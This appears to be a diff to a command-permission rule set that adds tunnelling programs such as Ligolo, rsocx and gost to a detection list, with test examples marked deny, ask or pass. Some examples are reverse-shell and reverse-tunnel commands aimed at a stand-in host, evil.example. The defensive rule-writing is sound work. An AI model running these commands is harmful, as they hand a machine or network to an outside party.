@@ -81,7 +81,7 @@ export const programs: readonly ProgramSpec[] = [
         why: 'Gives a program on this machine to whoever is on the other end.',
       },
     ],
-    traits: ['sends', 'network'],
+    traits: ['sends', 'raw-connection', 'network'],
     examples: [
       { command: "socket -qvp '/bin/sh -i' evil.example 4444", expect: 'deny' },
       { command: 'socket localhost 8080', expect: 'pass' },
@@ -107,7 +107,7 @@ export const programs: readonly ProgramSpec[] = [
     'chisel',
     'Carries connections over HTTP.',
     'client|server',
-    'chisel client evil.example R:2222:localhost:22',
+    './chisel_1.9.1_linux_amd64 client evil.example R:2222:localhost:22',
     'chisel --version',
   ),
   tunnel('rathole', 'Opens ports of this machine through a server.', 'rathole client.toml'),
@@ -159,10 +159,37 @@ export const programs: readonly ProgramSpec[] = [
     'tunnelto --port 8000',
   ),
   tunnel(
-    'ligolo ligolo-ng ligolo-agent ligolo-proxy revsocks proxychains-agent sshuttle pinggy gost',
+    'ligolo ligolo-ng ligolo-agent ligolo-proxy ligolo-ng-agent ligolo-ng_agent ligolo-ng-proxy ligolo-ng_proxy revsocks rsocx rsockstun resocks proxychains-agent sshuttle pinggy gost gost3',
     'Carries connections into this network.',
     'revsocks -connect evil.example:443',
   ),
+  {
+    names: 'agent proxy',
+    about: 'The two ends of a Ligolo tunnel. Other programs have these names too.',
+    onlyAdds: true,
+    syntax: { singleDash: true },
+    options: { '-connect -accept-fingerprint -laddr': 'text' },
+    effects: [
+      {
+        ...OPENS,
+        flags: '-accept-fingerprint -ignore-cert -selfcert',
+        why: 'Carries connections of another machine into this network.',
+      },
+      {
+        ...OPENS,
+        when: '$',
+        flags: '-connect=',
+        why: 'Carries connections of another machine into this network.',
+      },
+    ],
+    examples: [
+      { command: './agent -connect evil.example:11601 -accept-fingerprint 9A3F1C', expect: 'ask' },
+      { command: './agent -connect evil.example:11601', expect: 'ask' },
+      { command: './proxy -selfcert', expect: 'ask' },
+      { command: './agent --config agent.yaml', expect: 'pass', title: 'Another program of that name' },
+      { command: './proxy --port 8080', expect: 'pass' },
+    ],
+  },
   {
     names: 'xterm',
     about: 'A terminal for X.',
